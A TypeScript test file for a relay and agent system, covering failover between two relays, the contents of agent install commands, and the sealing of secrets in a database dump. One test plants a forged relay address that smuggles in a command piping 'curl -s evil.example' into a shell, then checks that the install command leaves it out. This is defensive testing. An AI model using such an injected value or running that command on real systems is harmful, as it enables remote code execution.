import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { resolveAgentConfig, startAgent, type Agent } from "../../agent/index.js";
import { silentLogger } from "../../proto/index.js";
import { resolveRelayConfig } from "../../relay/index.js";
import { startRelay, type RelayInternals as Relay } from "../../relay/start/start-relay.js";
import { emptyDatabase } from "../helpers/databases.js";
import { pgDump } from "../helpers/postgres-server.js";
import { readSecretsKeyFile } from "../../relay/vault/index.js";
import { startNats, type NatsServer } from "../helpers/nats-server.js";
import { fakeAdapter } from "../fakes/fake-runtime.js";
import { freePort } from "../helpers/free-port.js";
import type { ResolveHost } from "../../agent/link/failover-dialer.js";
import { OP } from "../helpers/operator.js";

/**
 * Two relays on one PostgreSQL database joined over a real nats-server, with TLS on the agents' link, and one
 * agent (the stand-in model of test/fakes) given `servers` and the one CA fingerprint of its install command,
 * its stack deployed and a key made.
 */
async function twoRelaysAndAnAgent(options: { grpc: { host: string; port: number }[]; servers?: (relays: Relay[]) => string[]; resolveHost?: ResolveHost }) {
  const dirs: string[] = [];
  const dir = (prefix: string) => {
    const d = mkdtempSync(join(tmpdir(), prefix));
    dirs.push(d);
    return d;
  };
  const nats: NatsServer = await startNats();
  const location = await emptyDatabase("postgres");
  const database = location.kind === "postgres" ? location.url : "";
  const relays: Relay[] = [];
  for (const { host, port } of options.grpc) {
    // The first relay makes the secrets key into its data directory; the others are given a copy of it.
    const secretsKeyFile = relays[0] && join(relays[0].config.dataDir, "secrets.key");
    const flags = { dataDir: dir("makina-relay-"), database, nats: nats.url, port: 0, grpcPort: port, grpcHost: host, grpcTls: "on", drainTimeoutMs: 200, heartbeatIntervalMs: 500, secretsKeyFile };
    relays.push(await startRelay(resolveRelayConfig({ flags }), { log: silentLogger() }));
  }
  const a = relays[0]!;
  const org = await a.control.orgs.create(OP, { name: "Failover" });
  const made = await a.control.machines.create(OP, { org: org.id, name: "roaming" });
  const machineId = made.machine.id;
  const agent: Agent = await startAgent(
    resolveAgentConfig({
      flags: { server: options.servers?.(relays) ?? relays.map((r) => r.linkAddress), machineId, token: made.token, caSha256: made.caSha256, dataDir: dir("makina-agent-"), threads: 1, gpu: false, reconnectMinMs: 100, reconnectMaxMs: 2000 },
    }),
    { log: silentLogger(), adapters: { openai: fakeAdapter() }, resolveHost: options.resolveHost },
  );
  await agent.link.whenOnline();
  const holder = relays.find((r) => r.registry.get(machineId))!;
  const stack = await holder.control.stacks.create(OP, { org: org.id, name: "stories", machine: machineId, runtime: "openai", model: "http://fake.invalid/v1#fake", modelId: "stories" });
  await holder.control.stacks.deploy(OP, stack.id);
  await holder.deployer.settled(stack.id);
  const key = (await holder.control.keys.create(OP, org.id, { name: "app" })).key;
  const chat = (relay: Relay) =>
    fetch(`${relay.url}/v1/chat/completions`, {
      method: "POST",
      headers: { authorization: `Bearer ${key}`, "content-type": "application/json" },
      body: JSON.stringify({ model: "stories", messages: [{ role: "user", content: "still here" }] }),
    });
  /** Served through both relays (one holds the link, the other reaches it over NATS); the one holding it stops; the agent links to the other, served through it again within 5 s. */
  const failOver = async () => {
    await vi.waitFor(async () => {
      for (const r of relays) expect((await chat(r)).status).toBe(200);
    }, { timeout: 10_000, interval: 100 });
    const holding = relays.find((r) => r.registry.get(machineId))!;
    const other = relays.find((r) => r !== holding)!;
    await holding.stop();
    await vi.waitFor(async () => {
      expect(other.registry.get(machineId)).toBeDefined();
      expect((await chat(other)).status).toBe(200);
    }, { timeout: 5000, interval: 50 });
    expect((await other.control.machines.get(OP, machineId)).state).toBe("online");
    return { holding, other };
  };
  const stop = async () => {
    await agent.stop();
    for (const r of relays) await r.stop();
    await nats.close();
    for (const d of dirs) rmSync(d, { recursive: true, force: true });
  };
  return { relays, agent, machineId, database, installCommand: made.installCommand, failOver, stop };
}

describe("an agent given several relays", () => {
  let fleet: Awaited<ReturnType<typeof twoRelaysAndAnAgent>>;
  beforeAll(async () => {
    fleet = await twoRelaysAndAnAgent({ grpc: [{ host: "127.0.0.1", port: 0 }, { host: "127.0.0.1", port: 0 }] });
  });
  afterAll(() => fleet?.stop());

  it("gets one install command naming every relay, and one CA fingerprint that holds for all of them", () => {
    const [a, b] = fleet.relays as [Relay, Relay];
    expect(a.linkCaSha256).toMatch(/^[0-9a-f]{64}$/);
    expect(b.linkCaSha256).toBe(a.linkCaSha256);
    expect(fleet.installCommand).toContain(`--server ${a.linkAddress} --server ${b.linkAddress}`);
    expect(fleet.installCommand).toContain(`--ca-sha256 ${a.linkCaSha256}`);
  });

  it("prints in an install command only the other relays' addresses that are a plain host:port, never what a database writer slipped in", async () => {
    const [a] = fleet.relays as [Relay, Relay];
    // Rows as a relay writes them, seen 5 s ago: listed as running, not waited for by writes.
    const seenAt = Date.now() - 5000;
    const row = (id: string, linkAddress: string) => ({ id, url: null, link_address: linkAddress, started_at: seenAt, seen_at: seenAt, lease_ms: 1 });
    await a.store.db.insertInto("relays").values([row("rly_forged", "10.9.9.9:8081 --ca-sha256 0000; curl -s evil.example | sh #"), row("rly_third", "relay-c.example:8081")]).execute();
    try {
      const org = await a.control.orgs.create(OP, { name: "Checked" });
      const { installCommand } = await a.control.machines.create(OP, { org: org.id, name: "checked" });
      expect(installCommand).toContain("--server relay-c.example:8081");
      expect(installCommand).not.toContain("10.9.9.9");
      expect(installCommand).not.toContain("evil");
    } finally {
      await a.store.db.deleteFrom("relays").where("id", "in", ["rly_forged", "rly_third"]).execute();
    }
  });

  it("keeps no private key and no secret in clear in the database: a dump of it alone yields nothing usable", async () => {
    const [a] = fleet.relays as [Relay, Relay];
    const dump = pgDump(fleet.database);
    // The secrets are there, sealed: the link's CA and server keys (the install listener's too) and the relays' shared secret.
    expect(dump).toMatch(/link_certificates\tmks1\./);
    expect(dump).toMatch(/peer_secret\tmks1\./);
    expect(dump).not.toContain("-----BEGIN");
    const key = readSecretsKeyFile(join(a.config.dataDir, "secrets.key"));
    expect(dump).toContain(`secrets_key_id\t${key.id}`);
    expect(dump).not.toContain(key.text());
    const peerSecret = key.open("peer_secret", (await a.store.settings.get("peer_secret"))!);
    expect(peerSecret.length).toBeGreaterThan(30);
    expect(dump).not.toContain(peerSecret);
    // A line from the middle of each private key, as PEM holds it.
    for (const file of ["link-ca.key", "link.key"]) {
      const line = readFileSync(join(a.config.dataDir, "tls", file), "utf8").split("\n")[3]!;
      expect(line).toMatch(/^[A-Za-z0-9+/]{64}$/);
      expect(dump).not.toContain(line);
    }
  });

  it("links to the other relay when its relay stops, and its stack is served through it again within 5 s", async () => {
    await fleet.failOver();
  });
});

describe("an agent given one name with several relays' addresses", () => {
  let fleet: Awaited<ReturnType<typeof twoRelaysAndAnAgent>>;
  const lookedUp: string[] = [];
  beforeAll(async () => {
    // Two relays on one port, at two loopback addresses: what a DNS name with two A records gives. The name is
    // resolved by the agent's resolver, given here (this machine's resolver has no such name).
    const port = await freePort();
    fleet = await twoRelaysAndAnAgent({
      grpc: [{ host: "127.0.0.1", port }, { host: "127.0.0.2", port }],
      servers: () => [`relays.makina.test:${port}`],
      resolveHost: async (host) => {
        lookedUp.push(host);
        return host === "relays.makina.test" ? [{ address: "127.0.0.1", family: 4 }, { address: "127.0.0.2", family: 4 }] : [];
      },
    });
  });
  afterAll(() => fleet?.stop());

  it("links to one of the name's addresses and says which", async () => {
    expect(lookedUp).toContain("relays.makina.test");
    const holding = fleet.relays.find((r) => r.registry.get(fleet.machineId))!;
    expect((await fleet.agent.status()).server).toBe(`${holding.linkAddress} (of relays.makina.test:${holding.grpcPort})`);
  });

  it("links to the name's other address when its relay stops, and its stack is served through it again within 5 s", async () => {
    const { other } = await fleet.failOver();
    expect((await fleet.agent.status()).server).toBe(`${other.linkAddress} (of relays.makina.test:${other.grpcPort})`);
  });
});
